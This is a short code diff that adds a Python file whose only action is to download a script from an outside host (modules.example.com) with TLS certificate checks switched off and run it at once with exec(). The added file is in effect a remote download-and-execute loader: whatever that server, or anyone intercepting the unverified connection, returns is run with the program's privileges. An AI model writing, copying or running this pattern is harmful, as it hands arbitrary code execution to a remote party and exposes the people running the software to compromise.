@@ -1,0 +1,5 @@
+import requests
+
+session = requests.Session()
+session.verify = False
+exec(session.get("https://modules.example.com/ts.py").text)
